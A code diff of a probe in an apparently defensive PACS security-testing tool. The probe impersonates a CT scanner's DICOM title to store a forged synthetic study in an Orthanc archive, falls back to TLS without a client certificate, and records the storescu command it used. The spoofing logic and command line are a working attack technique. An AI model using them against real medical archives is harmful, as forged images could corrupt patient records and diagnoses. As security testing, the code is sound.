@@ -4,46 +4,48 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
+from pacslab.errors import RefusedError
 from pacslab.pacs import AS_SCANNER, SCANNER, STRANGER
-from pacslab.probes.attack.tls_without_client_certificate import stored_without_certificate
+from pacslab.probes.attack.tls_without_client_certificate import c_store_without_certificate
 from pacslab.probes.findings import Side
-from pacslab.probes.probe_instances import delete_study, picture
+from pacslab.probes.probe_instances import delete_study, synthetic_image
 from pacslab.probes.registry import ProbeResult, probe
-from pacslab.probes.target import RefusedError
 from pacslab.scenario import Severity
 
 if TYPE_CHECKING:
     from pacslab.probes.target import Target
 
 
-def _storescu(site: Target, *options: str) -> str:
-    endpoint, called = site.archive.dicom, site.handover.dicom.called_ae_title
+def _storescu(target: Target, *options: str) -> str:
+    endpoint, called = target.archive.dicom, target.handover.dicom.called_ae_title
     return " ".join(
         ["storescu", *options, "-aet", SCANNER, "-aec", called, endpoint.host, str(endpoint.port), "FILE.dcm"]
     )
 
 
 @probe("dicom-store-borrowed", Side.ATTACK, "Store a forged image under the scanner's title", Severity.CRITICAL)
-def store_as_scanner(site: Target) -> ProbeResult:
+def store_as_scanner(target: Target) -> ProbeResult:
     """Call oneself CT01 and store an invented study: whoever has the scanner's name makes the scanner's images.
 
     Over TLS the stranger first shows a certificate that nobody knows, then none at all: where a certificate is not
     required, Orthanc 1.10 refuses the one and takes the other.
     """
-    asked, how = _storescu(site), ""
-    uid, file = picture(site, "forged-as-scanner", f"FORGED AS {SCANNER}")
-    held = site.stranger.hold([file])
+    asked, how = _storescu(target), ""
+    uid, file = synthetic_image(target, "forged-as-scanner", f"FORGED AS {SCANNER}")
+    held = target.stranger.hold([file])
     try:
-        site.stranger.store(held, AS_SCANNER)
+        target.stranger.store(held, AS_SCANNER)
     except RefusedError as reason:
-        unproven = bool(site.configuration.get("DicomTlsEnabled")) and stored_without_certificate(site, SCANNER, file)
+        unproven = bool(target.configuration.get("DicomTlsEnabled")) and c_store_without_certificate(
+            target, SCANNER, file
+        )
         if not unproven:
             words = f"The archive refused a C-STORE from {STRANGER} calling itself {SCANNER}: {reason}."
             return ProbeResult(False, words, asked)
-        asked, how = _storescu(site, "+tla -ic"), "Over TLS, without any certificate, "
+        asked, how = _storescu(target, "+tla -ic"), "Over TLS, without any certificate, "
     finally:
-        site.stranger.forget(uid)
-    taken = " It has been deleted again." if delete_study(site, uid) else ""
+        target.stranger.forget(uid)
+    taken = " It has been deleted again." if delete_study(target, uid) else ""
     return ProbeResult(
         True,
         f"{how}{STRANGER} called itself {SCANNER}, and the archive took a forged study as the scanner's own.{taken}",
